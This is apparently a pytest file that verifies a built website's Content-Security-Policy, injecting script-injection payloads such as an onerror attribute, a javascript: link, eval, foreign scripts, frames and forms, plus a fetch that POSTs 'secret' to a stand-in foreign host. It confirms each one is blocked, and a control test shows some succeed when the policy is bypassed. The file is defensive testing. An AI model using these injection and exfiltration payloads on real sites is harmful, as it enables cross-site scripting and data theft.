"""Every page of the built site has a policy that forbids foreign and written-in programs, and lives with it.

test_pages.py opens each page, from a server and from the disk, and fails at any complaint of the browser;
what the policy stops is one. Here it is shown that the policy is there, is strict, and does its work.
"""

import base64
import hashlib
import html
import os
import re
from pathlib import Path

import pytest
from pages import Visit, wait_for

SITE = Path(os.environ["ASRSCOPE_SITE"]).resolve()
PAGES = sorted(path.relative_to(SITE).as_posix() for path in SITE.rglob("*.html"))
DISK = SITE.as_uri() + "/"
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# The page that runs the model compiles it, and starts a worker from text that it holds.
MORE = {"live.html": {"script-src": ["'wasm-unsafe-eval'"], "worker-src": ["blob:"]}}
SCRIPT = re.compile(r"<script(?P<attributes>[^>]*)>(?P<text>.*?)</script>", re.DOTALL)
PAGES_TO_ATTACK = ["index.html", "search.html", "gallery/40_projector.html", "live.html"]
FOREIGN = "http://127.0.0.1:9/"  # another host than any that serves the site; nothing answers there

# Keeps what the policy stops, from the first moment on.
WATCH = """
window.stopped = []
document.addEventListener("securitypolicyviolation", (event) => {
  window.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`)
})
"""
# What somebody who could write into a page would try; each leaves a mark if it succeeds.
ATTACKS = {
    "a script that is written in": (
        "document.body.append(Object.assign(document.createElement('script'),"
        " {textContent: 'window.done = 1'}))",
        "script-src-elem inline",
    ),
    "an attribute that is a program": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.done = 1\">')",
        "script-src-attr inline",
    ),
    "an address that is a program": (
        "document.body.append(Object.assign(document.createElement('a'),"
        " {href: 'javascript:void(window.done = 1)', id: 'trap'})); document.getElementById('trap').click()",
        "script-src-elem inline",
    ),
    "text made a program": (
        # From a timer: the tool that runs this may evaluate, and what it runs inherits that.
        "setTimeout(() => { try { (0, eval)('window.done = 1') } catch {} })",
        "script-src eval",
    ),
    "a script from another host": (
        f"document.head.append(Object.assign(document.createElement('script'), {{src: '{FOREIGN}x.js'}}))",
        f"script-src-elem {FOREIGN}x.js",
    ),
    "a picture from another host": (
        f"Object.assign(new Image(), {{src: '{FOREIGN}x.png', onload: () => (window.done = 1)}})",
        f"img-src {FOREIGN}x.png",
    ),
    "a sound from another host": (
        f"document.body.append(Object.assign(document.createElement('audio'), {{src: '{FOREIGN}x.wav'}}))",
        f"media-src {FOREIGN}x.wav",
    ),
    "a message to another host": (
        f"fetch('{FOREIGN}', {{method: 'POST', body: 'secret'}}).then(() => (window.done = 1), () => {{}})",
        f"connect-src {FOREIGN}",
    ),
    "a style sheet from another host": (
        "document.head.append(Object.assign(document.createElement('link'),"
        f" {{rel: 'stylesheet', href: '{FOREIGN}x.css'}}))",
        f"style-src-elem {FOREIGN}x.css",
    ),
    "a page within the page": (
        f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{FOREIGN}'}}))",
        f"frame-src {FOREIGN.rstrip('/')}",
    ),
    "a form that leads to another host": (
        f"document.body.insertAdjacentHTML('beforeend', '<form id=\"f\" action=\"{FOREIGN}\"></form>');"
        " document.getElementById('f').submit()",
        f"form-action {FOREIGN}",
    ),
}


def directives(page: str) -> dict[str, list[str]]:
    """Return the policy of a page: what each of its parts allows."""
    text = (SITE / page).read_text(encoding="utf-8")
    (found,) = POLICY.findall(text)
    parts = (part.split() for part in html.unescape(found).split(";"))
    return {name: sources for name, *sources in parts}


@pytest.mark.parametrize("page", PAGES)
def test_the_policy_names_the_scripts_of_its_page_and_no_others(page):
    text = (SITE / page).read_text(encoding="utf-8")
    assert text.index("Content-Security-Policy") < text.index("<script")
    policy = directives(page)
    assert policy["default-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    inside = [match["text"] for match in SCRIPT.finditer(text) if "src=" not in match["attributes"]]
    digests = {base64.b64encode(hashlib.sha256(each.encode()).digest()).decode() for each in inside}
    more = MORE.get(page, {})
    allowed = ["'self'", *(f"'sha256-{each}'" for each in digests), *more.get("script-src", [])]
    assert sorted(policy["script-src"]) == sorted(allowed)
    assert policy.get("worker-src") == more.get("worker-src")
    everything = " ".join(source for sources in policy.values() for source in sources)
    assert "'unsafe-eval'" not in everything
    assert "http" not in everything
    assert "*" not in everything
    assert [name for name, sources in policy.items() if "'unsafe-inline'" in sources] == ["style-src"]


@pytest.mark.parametrize("page", PAGES_TO_ATTACK)
@pytest.mark.parametrize("place", ["server", "disk"])
def test_the_policy_stops_every_attack(browser, server, page, place, audit_record):
    with Visit(browser, server if place == "server" else DISK) as visit:
        visit.context.add_init_script(WATCH)
        asked = []
        visit.page.on("request", lambda request: asked.append(request))  # noqa: PLW0108
        visit.open(page)
        assert visit.complaints == []
        assert visit.page.evaluate("window.stopped") == []  # the page itself does nothing that is forbidden
        for program, stopped in ATTACKS.values():
            visit.page.evaluate(f"() => {{ {program} }}")
            wait_for(visit.page, f"window.stopped.some((each) => each.startsWith({stopped!r}))")
        assert not visit.page.evaluate("window.done")
        foreign = [request for request in asked if request.url.startswith(FOREIGN)]
        wait_for(visit.page, lambda: all(request.failure for request in foreign))  # which may be told later
        assert {request.failure for request in foreign} <= {"csp"}
    audit_record(f"csp/{page.replace('/', '-')}-{place}", {"attacks_stopped": len(ATTACKS)})


def test_an_attack_succeeds_where_the_policy_is_left_out(browser, server):
    """So what stops them above is the policy, and not a mistake in the attack."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    for attack in ("a script that is written in", "an attribute that is a program", "text made a program"):
        page.goto(server + "index.html")
        page.evaluate(f"() => {{ {ATTACKS[attack][0]} }}")
        wait_for(page, "window.done === 1")
    context.close()
